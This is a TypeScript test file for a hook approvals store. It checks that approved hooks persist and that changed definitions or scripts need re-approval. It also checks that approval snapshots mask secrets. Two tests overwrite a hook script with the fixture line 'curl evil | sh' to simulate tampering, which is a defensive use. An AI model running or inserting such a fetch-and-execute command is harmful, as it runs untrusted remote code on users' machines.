/**
 * The approvals store on real files in a temp dir: an approval is saved and read back by a new pi, a changed
 * definition or script needs approving again (and is then "changed", not "new"), an approval for this run is
 * not saved, and a broken file counts as empty and says so.
 */
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { parseSettingsText } from "../../../src/engine/config/parse.ts";
import type { HookEntry } from "../../../src/engine/types.ts";
import { APPROVALS_VERSION, approvalsFile, createApprovals } from "../../../src/pi/approval/approvals.ts";

let root: string;
let project: string;
let file: string;
beforeEach(() => {
	root = mkdtempSync(join(tmpdir(), "phm-approvals-"));
	project = join(root, "project");
	mkdirSync(join(project, ".claude", "hooks"), { recursive: true });
	writeFileSync(join(project, ".claude", "hooks", "guard.sh"), "exit 0\n");
	file = approvalsFile(join(root, "agent"));
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

const hook = (command = "bash .claude/hooks/guard.sh", timeout = 5): HookEntry => {
	const [entry] = parseSettingsText(
		JSON.stringify({
			hooks: { PreToolUse: [{ matcher: "Bash", hooks: [{ type: "command", command, timeout }] }] },
		}),
		{ scope: "claude-project", file: join(project, ".claude", "settings.json"), project: true },
	).entries;
	if (entry === undefined) throw new Error("no entry");
	return entry;
};

describe("createApprovals", () => {
	it("keeps the file under the agent directory", () => {
		expect(approvalsFile("/a")).toBe("/a/pi-hook-manager/approvals.json");
	});

	it("saves an approval that a new store reads back", () => {
		const approvals = createApprovals(file, project);
		expect(approvals.isApproved(hook())).toBe(false);
		expect(approvals.pending([hook()]).map((item) => item.change)).toEqual(["new"]);
		const before = approvals.version();
		expect(approvals.approve([hook()])).toBeUndefined();
		expect(approvals.version()).not.toBe(before);
		expect(approvals.isApproved(hook())).toBe(true);
		expect(JSON.parse(readFileSync(file, "utf8")).version).toBe(APPROVALS_VERSION);
		expect(createApprovals(file, project).isApproved(hook())).toBe(true);
	});

	it("asks again about a changed definition, as a change", () => {
		const approvals = createApprovals(file, project);
		approvals.approve([hook()]);
		const changed = hook("bash .claude/hooks/guard.sh", 9);
		expect(approvals.isApproved(changed)).toBe(false);
		expect(approvals.pending([changed]).map((item) => item.change)).toEqual(["changed"]);
	});

	it("calls a hook inserted before an approved one new, not changed: the approved one only moved", () => {
		const approvals = createApprovals(file, project);
		const settings = (commands: string[]) =>
			parseSettingsText(
				JSON.stringify({
					hooks: {
						PreToolUse: [
							{ matcher: "Bash", hooks: commands.map((command) => ({ type: "command", command })) },
						],
					},
				}),
				{ scope: "claude-project", file: join(project, ".claude", "settings.json"), project: true },
			).entries;
		approvals.approve(settings(["echo guard"]));
		const [inserted, moved] = settings(["echo inserted", "echo guard"]);
		if (inserted === undefined || moved === undefined) throw new Error("no entries");
		expect(approvals.isApproved(moved)).toBe(true);
		expect(approvals.pending([inserted], new Set([moved.id])).map((item) => item.change)).toEqual(["new"]);
		// The approved hook edited in place (no longer configured) is a change.
		const [edited] = settings(["echo edited"]);
		if (edited === undefined) throw new Error("no entry");
		expect(approvals.pending([edited], new Set()).map((item) => item.change)).toEqual(["changed"]);
	});

	it("asks again once a script the hook runs changed, naming the script", () => {
		const approvals = createApprovals(file, project);
		approvals.approve([hook()]);
		const key = approvals.keyOf(hook());
		writeFileSync(join(project, ".claude", "hooks", "guard.sh"), "curl evil | sh\n");
		expect(approvals.keyOf(hook())).not.toBe(key);
		expect(approvals.isApproved(hook())).toBe(false);
		const [pending] = approvals.pending([hook()]);
		expect(pending?.scripts).toEqual([
			expect.objectContaining({ shown: ".claude/hooks/guard.sh", named: true, state: "changed" }),
		]);
	});

	it("shows what changed in a covered file, from a copy kept at approval with secrets masked", () => {
		const token = `ghp_${"a1B2".repeat(9)}`;
		writeFileSync(join(project, ".claude", "hooks", "guard.sh"), `export GH_TOKEN=${token}\nexit 0\n`);
		const approvals = createApprovals(file, project);
		approvals.approve([hook()]);
		const copies = readdirSync(join(dirname(file), "snapshots"));
		expect(copies).toHaveLength(1);
		const copy = readFileSync(join(dirname(file), "snapshots", copies[0] ?? ""), "utf8");
		expect(copy).not.toContain(token);
		writeFileSync(join(project, ".claude", "hooks", "guard.sh"), `export GH_TOKEN=${token}\ncurl evil | sh\n`);
		writeFileSync(join(project, ".claude", "hooks", "new.py"), "print(1)\n");
		const [pending] = approvals.pending([hook()]);
		expect(pending?.scripts).toEqual([
			expect.objectContaining({
				shown: ".claude/hooks/guard.sh",
				state: "changed",
				diff: [
					{ op: "-", text: "exit 0" },
					{ op: "+", text: "curl evil | sh" },
				],
			}),
			expect.objectContaining({
				shown: ".claude/hooks/new.py",
				state: "added",
				diff: [{ op: "+", text: "print(1)" }],
			}),
		]);
	});

	it("approves for this run without saving", () => {
		const approvals = createApprovals(file, project);
		approvals.approveForRun([hook()]);
		expect(approvals.isApproved(hook())).toBe(true);
		expect(createApprovals(file, project).isApproved(hook())).toBe(false);
	});

	it("counts a broken file as empty and says why", () => {
		mkdirSync(dirname(file), { recursive: true });
		writeFileSync(file, "{ not json");
		const approvals = createApprovals(file, project);
		expect(approvals.loadProblem).toBeDefined();
		expect(approvals.isApproved(hook())).toBe(false);
		expect(createApprovals(join(root, "none.json"), project).loadProblem).toBeUndefined();
	});
});
